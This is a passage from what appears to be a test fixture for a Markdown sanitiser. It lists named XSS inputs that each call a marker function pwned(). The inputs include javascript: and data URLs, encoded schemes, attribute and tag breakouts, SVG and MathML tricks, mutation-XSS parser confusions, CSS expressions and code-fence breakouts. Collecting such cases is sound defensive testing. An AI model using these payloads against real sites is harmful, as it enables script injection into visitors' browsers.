    markdown: '> [q]:\n> javascript:pwned()\n> "title"\n\n[q]',
  },
  {
    name: "reference: image by reference",
    markdown: "![x][i]\n\n[i]: javascript:pwned() '\" onerror=\"pwned()'",
  },
  { name: "image: javascript source", markdown: "![x](javascript:pwned())" },
  { name: "image: alt breakout", markdown: '!["onerror="pwned()](x)' },
  { name: "image: alt closing the tag", markdown: '!["><script>pwned()</script>](x)' },
  { name: "image: alt with raw html", markdown: "![<img src=x onerror=pwned()>](x)" },
  {
    name: "image: alt with entity quotes",
    markdown: "![&quot; onerror=&quot;pwned()&quot; x=&quot;](x)",
  },
  {
    name: "image: alt with nested link and code",
    markdown: '![[a](javascript:pwned()) `"onerror="pwned()`](x)',
  },
  { name: "image: title breakout", markdown: "![x](x '\" onerror=\"pwned()')" },
  {
    name: "image: source breakout",
    markdown: '![x](x"onerror="pwned()") ![x](<x" onerror="pwned()>)',
  },
  {
    name: "image: data svg with script",
    markdown: "![x](data:image/svg+xml,<svg/onload=pwned()>)",
  },
  // pwned is encoded here.
  {
    name: "image: data svg, base64 with script",
    markdown:
      "![x](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0icHduZWQoKSIvPg==)",
  },
  {
    name: "image: data png with quote breakout",
    markdown:
      '![x](data:image/png;base64,"onerror="pwned()) ![x](<data:image/png;base64,AA" onerror="pwned()>)',
  },
  { name: "raw link: a with javascript", markdown: '<a href="javascript:pwned()">click</a>' },
  { name: "raw link: a without quotes", markdown: "<a href=javascript:pwned()>click</a>" },
  {
    name: "raw link: a with back-ticks",
    markdown:
      "<a href=`javascript:pwned()`>click</a> <a title=`x` href='javascript:pwned()'>click</a>",
  },
  { name: "raw link: tab inside the scheme", markdown: '<a href="jav\tascript:pwned()">click</a>' },
  {
    name: "raw link: newline inside the scheme",
    markdown: '<a href="java\nscript\n:pwned()">click</a>',
  },
  {
    name: "raw link: carriage return entity in the scheme",
    markdown: '<a href="java&#x0D;script&#x0A;:pwned()">click</a>',
  },
  {
    name: "raw link: every letter split by a tab entity",
    markdown:
      '<a href="j&Tab;a&Tab;v&Tab;a&Tab;s&Tab;c&Tab;r&Tab;i&Tab;p&Tab;t&Tab;&colon;pwned()">click</a>',
  },
  {
    name: "raw link: leading control characters",
    markdown: '<a href="\u0001\u0002\u001f javascript:pwned()">click</a>',
  },
  {
    name: "raw link: leading control entities",
    markdown: '<a href=" &#14;&#x1b; javascript:pwned()">click</a>',
  },
  {
    name: "raw link: null bytes inside the scheme",
    markdown:
      '<a href="java\u0000script:pwned()">click</a> <a href="\u0000javascript:pwned()">click</a>',
  },
  {
    name: "raw link: zero-padded entities without semicolons",
    markdown:
      '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058pwned()">click</a>',
  },
  {
    name: "raw link: hex entities without semicolons",
    markdown: "<a href=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3Apwned()>click</a>",
  },
  {
    name: "raw link: double-encoded entities",
    markdown:
      '<a href="&amp;#106;avascript:pwned()">click</a> <a href="javascript&amp;colon;pwned()">click</a>',
  },
  {
    name: "raw link: comment inside the scheme",
    markdown:
      '<a href="java<!-- -->script:pwned()">click</a> <a href="java/**/script:pwned()">click</a>',
  },
  {
    name: "raw link: comment stripping around a scheme",
    markdown:
      '<a href="<!-- x -->javascript:pwned()">click</a> <a href="jav<!-- --><!-- -->ascript:pwned()">click</a>',
  },
  {
    name: "raw link: javascript hiding behind http",
    markdown:
      '<a href="javascript://https://example.org/%0D%0Apwned()">click</a> <a href="javascript:/*https://*/pwned()">click</a>',
  },
  // pwned is encoded here.
  {
    name: "raw link: percent-encoded body",
    markdown: '<a href="javascript:%70%77%6e%65%64%28%29">click</a>',
  },
  {
    name: "raw link: target blank",
    markdown:
      '<a href="javascript:opener.pwned()" target=_blank rel=opener>click</a> <a href="javascript:pwned()" target="_self">click</a>',
  },
  {
    name: "raw link: target name carrying code",
    markdown:
      '<a href="javascript:eval(name)" target="pwned()">click</a> <a href="javascript:pwned()" target="_top">click</a>',
  },
  {
    name: "raw link: ping and attributionsrc",
    markdown:
      '<a href="#" ping="javascript:pwned()" attributionsrc="javascript:pwned()" onclick="pwned()">click</a>',
  },
  {
    name: "raw link: duplicate href",
    markdown:
      '<a href="https://example.org/" href="javascript:pwned()">click</a> <a href="javascript:pwned()" href="https://example.org/">click</a>',
  },
  {
    name: "raw link: area in an image map",
    markdown:
      '<map name=m><area shape=rect coords="0,0,99,99" href="javascript:pwned()"></map><img usemap="#m" width=99 height=99 src=x>',
  },
  {
    name: "raw link: svg a with xlink:href",
    markdown: '<svg><a xlink:href="javascript:pwned()"><text x=0 y=20>click</text></a></svg>',
  },
  {
    name: "raw link: svg a with href animated to javascript",
    markdown:
      '<svg><a><animate attributeName=href values="javascript:pwned()" /><text y=20>click</text></a></svg>',
  },
  {
    name: "raw link: svg a with set to javascript",
    markdown:
      '<svg><a xlink:href="#"><set attributeName="xlink:href" to="javascript:pwned()" begin="0s" /><text y=20>click</text></a></svg>',
  },
  {
    name: "raw link: svg animate by id reference",
    markdown:
      '<svg><animate xlink:href="#xss" attributeName=href dur=5s repeatCount=indefinite keytimes="0;0;1" values="https://example.org/;javascript:pwned();0" /><a id=xss><text y=20>click</text></a></svg>',
  },
  {
    name: "raw link: svg animate with from and to entities",
    markdown:
      '<svg><a><animate attributeName="href" from="&#106;avascript:pwned()" to="&#x6a;avascript:pwned()" begin=0 fill=freeze dur=1s /><rect width=99 height=99 /></a></svg>',
  },
  {
    name: "raw link: MathML href",
    markdown:
      '<math href="javascript:pwned()">click</math> <math><mtext href="javascript:pwned()">click</mtext></math>',
  },
  {
    name: "raw link: MathML maction with xlink:href",
    markdown:
      '<math><maction actiontype="statusline#http://example.org" xlink:href="javascript:pwned()">click<mtext>x</mtext></maction></math>',
  },
  {
    name: "raw link: MathML mi xlink:href",
    markdown:
      '<math><mi xlink:href="data:x,<script>pwned()</script>">x</mi><mrow href="javascript:pwned()"><mn>1</mn></mrow></math>',
  },
  {
    name: "raw: form action",
    markdown: '<form action="javascript:pwned()"><button>send</button></form>',
  },
  {
    name: "raw: button formaction",
    markdown: '<form><button formaction="javascript:pwned()">send</button></form>',
  },
  {
    name: "raw: button formaction outside its form",
    markdown: "<form id=ff></form><button form=ff formaction=javascript:pwned()>send</button>",
  },
  {
    name: "raw: input submit formaction",
    markdown: '<form><input type=submit formaction="javascript&colon;pwned()" value=send></form>',
  },
  {
    name: "raw: input image formaction",
    markdown: '<form><input type=image src=x formaction="javascript:pwned()"></form>',
  },
  {
    name: "raw: iframe src javascript",
    markdown: '<iframe src="javascript:parent.pwned()"></iframe>',
  },
  {
    name: "raw: iframe src data",
    markdown: '<iframe src="data:text/html,<script>parent.pwned()</script>"></iframe>',
  },
  {
    name: "raw: iframe srcdoc",
    markdown: '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  },
  {
    name: "raw: iframe srcdoc entity-encoded",
    markdown:
      '<iframe srcdoc="&lt;img src&equals;x onerror&equals;parent.pwned&lpar;&rpar;&gt;"></iframe>',
  },
  {
    name: "raw: iframe srcdoc double entity in a nested frame",
    markdown:
      "<iframe srcdoc=\"<iframe srcdoc='&amp;lt;script&amp;gt;top.pwned()&amp;lt;/script&amp;gt;'></iframe>\"></iframe>",
  },
  {
    name: "raw: iframe srcdoc with sandbox allowing scripts",
    markdown:
      '<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" srcdoc="<svg onload=parent.pwned()>"></iframe>',
  },
  {
    name: "raw: iframe allowed video host, look-alike address",
    markdown:
      '<iframe src="https://www.youtube.com@example.org/embed/x" onload=pwned()></iframe><iframe src="//www.youtube.com.example.org/" onload="pwned()"></iframe><iframe src="javascript://www.youtube.com/%0aparent.pwned()"></iframe>',
  },
  {
    name: "raw: iframe src entity and tab",
    markdown: '<iframe src="jav&#x09;ascript&colon;parent.pwned()"></iframe>',
  },
  {
    name: "raw: object data javascript",
    markdown: '<object data="javascript:parent.pwned()"></object>',
  },
  // pwned is encoded here.
  {
    name: "raw: object data html",
    markdown:
      '<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQoKTwvc2NyaXB0Pg=="></object>',
  },
  {
    name: "raw: object with param",
    markdown:
      '<object><param name="src" value="javascript:pwned()"><param name=code value="javascript:pwned()"></object>',
  },
  { name: "raw: embed src javascript", markdown: '<embed src="javascript:parent.pwned()">' },
  {
    name: "raw: embed src svg data",
    markdown:
      '<embed type="image/svg+xml" src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\'><script>parent.pwned()</script></svg>">',
  },
  {
    name: "raw: applet and portal",
    markdown:
      '<applet code="javascript:pwned()" onload=pwned()></applet><portal src="javascript:parent.pwned()" onload=pwned()></portal><fencedframe onload=pwned()></fencedframe>',
  },
  {
    name: "raw: link import and stylesheet javascript",
    markdown:
      '<link rel=import href="data:text/html,<script>pwned()</script>"><link rel=stylesheet href="javascript:pwned()">',
  },
  {
    name: "raw: link preload with onload",
    markdown:
      '<link rel=preload as=script href="data:text/javascript,pwned()" onload="pwned()" onerror="pwned()"><link rel=modulepreload href="data:text/javascript,pwned()" onload="pwned()">',
  },
  {
    name: "raw: meta refresh javascript",
    markdown: '<meta http-equiv="refresh" content="0;url=javascript:pwned()">',
  },
  {
    name: "raw: meta refresh data",
    markdown:
      '<meta http-equiv="refresh" content="0; url=data:text/html,<script>pwned()</script>">',
  },
  {
    name: "raw: meta refresh double URL",
    markdown: '<meta http-equiv="refresh" content="0; URL=http://;URL=javascript:pwned();">',
  },
  {
    name: "raw: meta content security policy then script",
    markdown:
      "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src 'unsafe-inline' 'unsafe-eval' data: *\"><script>pwned()</script>",
  },
  {
    name: "raw: meta set-cookie and link header",
    markdown:
      '<meta http-equiv="Set-Cookie" content="x=<script>pwned()</script>"><meta http-equiv=Link content="<javascript:pwned()>; rel=stylesheet"><meta name=referrer content=\'"><script>pwned()</script>\'>',
  },
  {
    name: "raw: base href javascript",
    markdown: '<base href="javascript:/a/-pwned()///////"><a href="../lol/safari.html">click</a>',
  },
  {
    name: "raw: base href data",
    markdown: '<base href="data:text/javascript,pwned()//"><script src="app.js"></script>',
  },
  {
    name: "raw: base target carrying code",
    markdown:
      '<base target="<script>pwned()</script>"><a href="javascript:document.write(window.name);pwned()">click</a>',
  },
  {
    name: "raw: img src javascript",
    markdown:
      '<img src="javascript:pwned()"><img src="jav&#x0A;ascript:pwned()"><img dynsrc="javascript:pwned()" lowsrc="javascript:pwned()">',
  },
  {
    name: "raw: img srcset javascript",
    markdown: '<img srcset="javascript:pwned() 1x, https://example.org/x.png 2x">',
  },
  {
    name: "raw: img srcset breakout",
    markdown: "<img srcset='x, y\" onerror=\"pwned() 2x' src=x>",
  },
  {
    name: "raw: blockquote cite, q cite, del cite",
    markdown:
      '<blockquote cite="javascript:pwned()">x</blockquote><q cite="javascript:pwned()">x</q><del cite=\'"onclick="pwned()\'>x</del>',
  },
  {
    name: "raw: longdesc, profile, manifest and usemap",
    markdown:
      '<img longdesc="javascript:pwned()" usemap="javascript:pwned()" src=x><head profile="javascript:pwned()"><html manifest="javascript:pwned()">',
  },
  {
    name: "raw: quote in an allowed attribute value",
    markdown:
      '<img alt=\'"onerror="pwned()\' src=\'x"onerror="pwned()\'><a title=\'"onfocus="pwned()"autofocus="\' href=x>x</a>',
  },
  {
    name: "raw: entity quote in an allowed attribute value",
    markdown:
      '<img alt="&quot;&gt;&lt;script&gt;pwned()&lt;/script&gt;" src=x> <img title="&#34;onerror=&#34;pwned()" src=x>',
  },
  {
    name: "raw: attribute name holding markup",
    markdown: "<a <script>pwned()</script> href=x>x</a> <p x<img/src=x/onerror=pwned()>>y</p>",
  },
  {
    name: "raw: attribute name holding a quote",
    markdown: "<a x\"onfocus=\"pwned()\" autofocus href=x>x</a><img x'onerror='pwned()' src=x>",
  },
  {
    name: "raw: class and id values holding markup",
    markdown: "<p class='\"><img src=x onerror=pwned()>' id='\"onclick=\"pwned()'>x</p>",
  },
  {
    name: "raw: language class on code",
    markdown: "<code class='language-\"><img src=x onerror=pwned()>'>x</code>",
  },
  {
    name: "raw: tag name holding a quote or colon",
    markdown:
      '<a"onfocus=pwned() autofocus href=x>x</a> <p:onclick=pwned()>x</p> <img:x src=x onerror=pwned()>',
  },
  {
    name: "raw: end tags with attributes",
    markdown: "</p onclick=pwned()></br onclick=pwned() autofocus></img src=x onerror=pwned()>",
  },
  {
    name: "raw: end tag followed by a bogus comment",
    markdown: '</ <img src=x onerror=pwned()> </1 x="><img src=x onerror=pwned()>">',
  },
  {
    name: "raw: digit and symbol tag names",
    markdown:
      "<1 onclick=pwned()> <? onclick=pwned()> <% onclick=pwned()> <a1-x onfocus=pwned() autofocus tabindex=0>x</a1-x>",
  },
  {
    name: "svg: use with data URL",
    markdown:
      "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='pwned()'/></svg>#x\" /></svg>",
  },
  // pwned is encoded here.
  {
    name: "svg: use with xlink:href base64",
    markdown:
      '<svg><use xlink:href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48aW1hZ2UgaHJlZj0iMSIgb25lcnJvcj0icHduZWQoKSIvPjwvc3ZnPg==#x" /></svg>',
  },
  {
    name: "svg: set on an event handler attribute",
    markdown:
      '<svg><set attributeName="onmouseover" to="pwned()" /><rect width=99 height=99 onclick="pwned()" /><animate attributeName=onload values=pwned() /></svg>',
  },
  {
    name: "svg: image with data svg",
    markdown:
      "<svg><image xlink:href=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.pwned()'/>\" onload=\"pwned()\" /></svg>",
  },
  {
    name: "svg: feImage and filter",
    markdown:
      '<svg><filter id=f><feImage xlink:href="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'pwned()\'/>" /></filter><rect filter="url(#f)" onclick="pwned()" width=9 height=9 /></svg>',
  },
  {
    name: "svg: handler element and ev:event",
    markdown:
      '<svg xmlns:ev="http://www.w3.org/2001/xml-events"><handler ev:event="load">pwned()</handler><script ev:event="load">pwned()</script></svg>',
  },
  {
    name: "svg: foreignObject with iframe",
    markdown:
      '<svg><foreignObject width=99 height=99><iframe src="javascript:parent.pwned()"></iframe></foreignObject></svg>',
  },
  {
    name: "svg: style element holding markup",
    markdown: "<svg><style><img src=x onerror=pwned()></style></svg>",
  },
  {
    name: "svg: style with closing svg in a comment",
    markdown: '<svg></p><style><a id="</style><img src=x onerror=pwned()>"></style></svg>',
  },
  {
    name: "svg: style with entity-encoded markup",
    markdown: "<svg><style>&lt;/style&gt;&lt;img src=x onerror=pwned()&gt;</style></svg>",
  },
  {
    name: "svg: CDATA hiding an element",
    markdown: "<svg><![CDATA[><img src=x onerror=pwned()>]]></svg>",
  },
  {
    name: "svg: desc, noscript and template breakouts",
    markdown:
      '<svg><desc><noscript><p title="</noscript></desc><img src=x onerror=pwned()>"></noscript></desc></svg>',
  },
  {
    name: "svg: HTML breakout element inside",
    markdown: "<svg><p><style><!--</style><img src=x onerror=pwned()>--></style></p></svg>",
  },
  {
    name: "svg: font element breakout with attribute",
    markdown:
      '<svg><font color="x"><style><g title="</style><img src=x onerror=pwned()>"></style></font></svg>',
  },
  {
    name: "svg: end p and end br breakout",
    markdown:
      '<svg></br><textarea><g title="</textarea><img src=x onerror=pwned()>"></textarea></svg>',
  },
  {
    name: "mutation: form, math, mtext, mglyph, style",
    markdown:
      "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()></style></mglyph></form></mtext></math></form>",
  },
  {
    name: "mutation: math, mtext, table, mglyph, style comment",
    markdown:
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;"></style></mglyph></table></mtext></math>',
  },
  {
    name: "mutation: math, mtext, mglyph, svg, path",
    markdown:
      "<math><mtext><table><mglyph><style><math><img src=x onerror=pwned()></math></style></mglyph></table></mtext></math>",
  },
  {
    name: "mutation: malignmark and svg mtext",
    markdown:
      '<svg><mtext><textarea><path id="</textarea><img src onerror=pwned()>"></textarea></mtext></svg><math><mi><malignmark><style><img src=x onerror=pwned()></style></malignmark></mi></math>',
  },
  {
    name: "mutation: annotation-xml encoding text/html",
    markdown:
      '<math><annotation-xml encoding="text/html"><style><img src=x onerror=pwned()></style><img src=x onerror=pwned()></annotation-xml></math>',
  },
  {
    name: "mutation: annotation-xml encoding with entity",
    markdown:
      '<math><annotation-xml encoding="application/xhtml&#43;xml"><script>pwned()</script></annotation-xml></math>',
  },
  {
    name: "mutation: annotation-xml without encoding",
    markdown:
      "<math><annotation-xml><svg><foreignObject><img src=x onerror=pwned()></foreignObject></svg></annotation-xml></math>",
  },
  {
    name: "mutation: math style with anchor title",
    markdown: "<math></p><style><!--</style><img src/onerror=pwned()>--></style></math>",
  },
  {
    name: "mutation: math, mi, style unclosed",
    markdown:
      '<math><mi//xlink:href="data:x,<script>pwned()</script>"><style></mi><img src=x onerror=pwned()>',
  },
  {
    name: "mutation: nested form dropping",
    markdown:
      "<form id=a><div></form><form id=b><input name=x><img src=x onerror=pwned()></form></div></form>",
  },
  {
    name: "mutation: table foster parenting",
    markdown:
      '<table><math><mtext><style><a title="</style></mtext></math></table><img src=x onerror=pwned()>"></table>',
  },
  {
    name: "mutation: select swallowing tags",
    markdown: "<select><style></select><img src=x onerror=pwned()></style></select>",
  },
  {
    name: "mutation: select with template and iframe",
    markdown:
      "<select><iframe></select><img src=x onerror=pwned()></iframe><template><select><img src=x onerror=pwned()></template>",
  },
  {
    name: "mutation: deep nesting flattening",
    markdown:
      "<div>".repeat(600) +
      '<svg><style><a title="</style><img src=x onerror=pwned()>"></style></svg>',
  },
  {
    name: "mutation: nested anchors and formatting adoption",
    markdown:
      '<a href=x><b><a href="javascript:pwned()"><p></b><svg></a><style><a title="</style><img src=x onerror=pwned()>">',
  },
  {
    name: "mutation: noscript with attribute",
    markdown: '<noscript><p title="</noscript><img src=x onerror=pwned()>"></noscript>',
  },
  {
    name: "mutation: noscript with comment",
    markdown: "<noscript><!-- </noscript><img src=x onerror=pwned()> --></noscript>",
  },
  {
    name: "mutation: noscript with style",
    markdown: "<noscript><style></noscript><img src=x onerror=pwned()></style></noscript>",
  },
  {
    name: "mutation: title with attribute",
    markdown: '<title><a title="</title><img src=x onerror=pwned()>"></title>',
  },
  {
    name: "mutation: textarea with attribute",
    markdown: '<textarea><a title="</textarea><img src=x onerror=pwned()>"></textarea>',
  },
  {
    name: "mutation: textarea end tag with space and case",
    markdown: "<textarea></TEXTAREA ><img src=x onerror=pwned()></textarea>",
  },
  {
    name: "mutation: textarea entity text decoded once",
    markdown: "<textarea>&lt;/textarea&gt;&lt;img src=x onerror=pwned()&gt;</textarea>",
  },
  {
    name: "mutation: option entity text decoded once",
    markdown: "<option>&lt;/option&gt;&lt;script&gt;pwned()&lt;/script&gt;</option>",
  },
  {
    name: "mutation: style with attribute",
    markdown: '<style><a title="</style><img src=x onerror=pwned()>"></style>',
  },
  {
    name: "mutation: xmp with attribute",
    markdown: '<xmp><p title="</xmp><img src=x onerror=pwned()>"></xmp>',
  },
  {
    name: "mutation: xmp entity text",
    markdown:
      "<xmp>&lt;img src=x onerror=pwned()&gt;</xmp><xmp><svg><b><xmp></xmp><img src=x onerror=pwned()>",
  },
  {
    name: "mutation: noembed with attribute",
    markdown: '<noembed><img title="</noembed><img src=x onerror=pwned()>"></noembed>',
  },
  {
    name: "mutation: noframes with attribute",
    markdown: '<noframes><img title="</noframes><img src=x onerror=pwned()>"></noframes>',
  },
  {
    name: "mutation: iframe raw text with attribute",
    markdown: '<iframe><img title="</iframe><img src=x onerror=pwned()>"></iframe>',
  },
  {
    name: "mutation: plaintext swallowing the rest",
    markdown: "<plaintext><img src=x onerror=pwned()></plaintext><img src=x onerror=pwned()>",
  },
  {
    name: "mutation: svg plaintext and listing",
    markdown:
      "<svg><plaintext><img src=x onerror=pwned()></svg><listing>&lt;img src=x onerror=pwned()&gt;</listing>",
  },
  {
    name: "mutation: template content",
    markdown:
      "<template><img src=x onerror=pwned()></template><template><script>pwned()</script></template>",
  },
  {
    name: "mutation: template end tag in attribute",
    markdown: '<template><p title="</template><img src=x onerror=pwned()>"></p></template>',
  },
  {
    name: "mutation: declarative shadow root",
    markdown: '<div><template shadowrootmode="open"><img src=x onerror=pwned()></template></div>',
  },
  {
    name: "mutation: declarative shadow root, closed with style",
    markdown:
      "<p><template shadowrootmode=closed shadowrootdelegatesfocus><style>*{}</style><input autofocus onfocus=pwned()></template></p>",
  },
  {
    name: "mutation: old shadowroot attribute and selectedcontent",
    markdown:
      "<div><template shadowroot=open><script>pwned()</script></template></div><select><button><selectedcontent></selectedcontent></button><option selected><img src=x onerror=pwned()></option></select>",
  },
  {
    name: "mutation: customised built-in with is",
    markdown:
      '<img is="x-pwned" src=x onerror=pwned()><button is="fancy-button" autofocus onfocus=pwned()>x</button>',
  },
  {
    name: "mutation: customised element defined by the payload",
    markdown:
      '<script>customElements.define("x-p",class extends HTMLParagraphElement{connectedCallback(){pwned()}},{extends:"p"})</script>\n\n<p is="x-p">x</p>',
  },
  {
    name: "mutation: caption, colgroup and frameset ignored tags",
    markdown:
      '<colgroup><style><a title="</style><img src=x onerror=pwned()>"></colgroup><caption><svg><style><img src=x onerror=pwned()>',
  },
  {
    name: "mutation: pre and textarea leading newline",
    markdown: "<pre>\n<textarea>\n\n</textarea><img src=x onerror=pwned()></pre>",
  },
  {
    name: "mutation: attribute back-tick innerHTML serialising",
    markdown: '<img alt="``onerror=pwned()" src=x><p title="``><img src=x onerror=pwned()>">x</p>',
  },
  {
    name: "mutation: void element with content",
    markdown:
      "<br><style></br></style><img src=x onerror=pwned()></br onclick=pwned()><input>x</input onclick=pwned()>",
  },
  {
    name: "comment: closed by angle bracket at once",
    markdown: "<!--><img src=x onerror=pwned()>-->",
  },
  {
    name: "comment: closed by dash and angle bracket",
    markdown: "<!---><img src=x onerror=pwned()>-->",
  },
  { name: "comment: closed by bang", markdown: "<!-- --!><img src=x onerror=pwned()> -->" },
  { name: "comment: nested opening", markdown: "<!-- <!-- --><img src=x onerror=pwned()> -->" },
  { name: "comment: dash dash space angle", markdown: "<!-- -- ><img src=x onerror=pwned()> -->" },
  {
    name: "comment: conditional comment",
    markdown: "<!--[if gte IE 4]><script>pwned()</script><![endif]-->",
  },
  {
    name: "comment: downlevel-revealed conditional",
    markdown: "<![if !IE]><script>pwned()</script><![endif]>",
  },
  { name: "comment: unclosed", markdown: "<!-- <img src=x onerror=pwned()>" },
  {
    name: "comment: hiding an attribute end",
    markdown: '<img src="x<!--" onerror="pwned()//-->">',
  },
  {
    name: "comment: comment in an attribute breaking out",
    markdown: '<!-- <a title="--><img src=x onerror=pwned()>">',
  },
  {
    name: "comment: bogus declaration",
    markdown: '<!x y="><img src=x onerror=pwned()>"> <!<img src=x onerror=pwned()>>',
  },
  {
    name: "comment: doctype internal subset",
    markdown: '<!DOCTYPE x [<!ENTITY e "<script>pwned()</script>">]>&e;',
  },
  {
    name: "comment: doctype ended early",
    markdown: '<!DOCTYPE html "><img src=x onerror=pwned()>">',
  },
  { name: "comment: CDATA in HTML content", markdown: "<![CDATA[><img src=x onerror=pwned()>]]>" },
  {
    name: "comment: CDATA splitting a tag",
    markdown:
      "<scri<![CDATA[]]>pt>pwned()</scri<![CDATA[]]>pt> <![CDATA[<script>]]>pwned()<![CDATA[</script>]]>",
  },
  {
    name: "comment: processing instruction",
    markdown:
      '<?xml version="1.0"?><script>pwned()</script><?php echo "><img src=x onerror=pwned()>" ?>',
  },
  {
    name: "comment: processing instruction ended early",
    markdown: '<?x title="><img src=x onerror=pwned()>" ?>',
  },
  {
    name: "comment: xml-stylesheet",
    markdown:
      "<?xml-stylesheet type=\"text/xsl\" href=\"data:text/xml,<x:stylesheet xmlns:x='http://www.w3.org/1999/XSL/Transform'><x:template match='/'><script xmlns='http://www.w3.org/1999/xhtml'>pwned()</script></x:template></x:stylesheet>\"?><img src=x onerror=pwned()>",
  },
  {
    name: "comment: xml-stylesheet with javascript",
    markdown: '<?xml-stylesheet href="javascript:pwned()"?>',
  },
  {
    name: "comment: XML data island",
    markdown:
      '<xml id=i><x><c><![CDATA[<img src="javas]]><![CDATA[cript:pwned()">]]></c></x></xml><span datasrc=#i datafld=c dataformatas=html onclick=pwned()>x</span>',
  },
  {
    name: "comment: server-side include and template syntax",
    markdown:
      "<!--#exec cmd=\"echo '<script>pwned()</script>'\"--> {{constructor.constructor('pwned()')()}} ${pwned()} <%= \"<script>pwned()</script>\" %>",
  },
  {
    name: "css: expression in a style attribute",
    markdown: '<p style="width:expression(pwned())">x</p>',
  },
  {
    name: "css: expression split by a comment",
    markdown:
      '<p style="width:exp/**/ression(pwned())">x</p> <p style="x:e\\0078pression(pwned())">x</p>',
  },
  {
    name: "css: url javascript in a style attribute",
    markdown:
      '<p style="background:url(javascript:pwned())">x</p> <p style="background-image:url(\'java\\0000script:pwned()\')">x</p>',
  },
  {
    name: "css: behaviour and binding",
    markdown:
      '<p style="behavior:url(#default#time2);-moz-binding:url(data:text/xml,pwned())" onbegin="pwned()">x</p>',
  },
  {
    name: "css: style attribute breakout",
    markdown:
      '<p style=\'color:red"onclick="pwned()\'>x</p> <p style="color:&quot;onmouseover=&quot;pwned()">x</p>',
  },
  {
    name: "css: style attribute closing the tag",
    markdown: "<p style='font-family:\"><img src=x onerror=pwned()>\"'>x</p>",
  },
  {
    name: "css: import javascript",
    markdown:
      '<style>@import "javascript:pwned()"; @import url(data:text/css,*{x:expression(pwned())});</style>',
  },
  {
    name: "css: style tag with expression and behaviour",
    markdown:
      '<style>body{x:expression(pwned());behavior:url(javascript:pwned());background:url("javascript:pwned()")}</style>',
  },
  {
    name: "css: style tag with type javascript",
    markdown:
      '<style type="text/javascript">pwned()</style><link rel="stylesheet" type="text/javascript" href="data:,pwned()">',
  },
  {
    name: "css: style end tag inside a CSS string",
    markdown: '<style>a{content:"</style><img src=x onerror=pwned()>"}</style>',
  },
  {
    name: "css: escaped end tag inside a CSS string",
    markdown: '<style>a{content:"\\3c/style\\3e\\3cimg src=x onerror=pwned()\\3e"}</style>',
  },
  {
    name: "css: full-page overlay link",
    markdown:
      '<a style="position:fixed;inset:0;z-index:9999;opacity:0" href="javascript:pwned()">x</a>',
  },
  {
    name: "css: list-style and cursor URLs",
    markdown:
      '<ul style="list-style-image:url(javascript:pwned())"><li style="cursor:url(\'javascript:pwned()\'),auto" onclick=pwned()>x</li></ul>',
  },
  { name: "fence: info-string breakout", markdown: '```"><img src=x onerror=pwned()>\ncode\n```' },
  {
    name: "fence: info-string attribute breakout",
    markdown: '```js" onmouseover="pwned()" onfocus="pwned()" autofocus tabindex="1\ncode\n```',
  },
  {
    name: "fence: info-string with entities",
    markdown: "```&quot;&gt;&lt;img/src=x/onerror=pwned()&gt;\ncode\n```",
  },
  {
    name: "fence: info-string with backslash escapes",
    markdown: '```\\"\\>\\<img/src=x/onerror=pwned()\\>\ncode\n```',
  },
  {
    name: "fence: tilde fence with back-ticks in the info string",
    markdown: '~~~ `"><script>pwned()</script>`\ncode\n~~~',
  },
  {
    name: "fence: script inside code",
    markdown: "```html\n</code></pre><script>pwned()</script>\n```",
  },
  {
    name: "fence: script inside a code span",
    markdown: '`</code><script>pwned()</script>` and ``` `"><img src=x onerror=pwned()>` ```',
  },
  { name: "fence: indented code", markdown: "    </code></pre><img src=x onerror=pwned()>" },
  {
    name: "fence: unclosed fence followed by html",
    markdown: "~~~html\n</pre><img src=x onerror=pwned()>",
  },
  {
    name: "fence: mermaid diagram with a click handler",
    markdown:
      '```mermaid\ngraph TD; A["<img src=x onerror=pwned()>"]; click A href "javascript:pwned()"\n```',
  },
  {
    name: "fence: math with href and html",
    markdown:
      '```math\n\\href{javascript:pwned()}{x} \\htmlData{x="><img src=x onerror=pwned()>}{y}\n```\n\n$\\href{javascript:pwned()}{x}$ $$\\unicode{<img src=x onerror=pwned()>}$$',
  },
  {
    name: "heading: id breakout",
    markdown: '# x" onclick="pwned()" onfocus="pwned()" autofocus tabindex="1',
  },
  { name: "heading: id closing the tag", markdown: '## "><img src=x onerror=pwned()>' },
  {
    name: "heading: entity-encoded markup",
    markdown: "### &quot;&gt;&lt;img src=x onerror=pwned()&gt;",
  },
  {
    name: "heading: attribute block syntax",
    markdown: '#### x {#a" onclick="pwned()" onclick=pwned() .b"><img/src=x/onerror=pwned()>}',
  },
  {
    name: "heading: code span with markup, for a table of contents",
    markdown: "# `<img src=x onerror=pwned()>`\n\n[[toc]]\n\n[TOC]",
  },
  {
    name: "markdown: attribute block on an image and a paragraph",
    markdown:
      '![x](x){onerror=pwned() onload="pwned()"}\n\nparagraph {onclick=pwned() style="x" autofocus tabindex=0 onfocus=pwned()}',
  },
  {
    name: "markdown: container block breakout",
    markdown: '::: warning "><img src=x onerror=pwned()>\ntext\n:::',
  },
  {
    name: "markdown: front matter",
    markdown:
      '---\ntitle: "</title><script>pwned()</script>"\ndescription: \'"><img src=x onerror=pwned()>\'\n---\n\ntext',
  },
  {
    name: "markdown: first heading used as page title",
    markdown:
      '# </title></head><script>pwned()</script>\n\n"><img src=x onerror=pwned()> in the description',
  },
  {
    name: "footnote: label breakout",
    markdown: 'Text[^"><img/src=x/onerror=pwned()>].\n\n[^"><img/src=x/onerror=pwned()>]: note',
  },
  {
    name: "footnote: label attribute breakout",
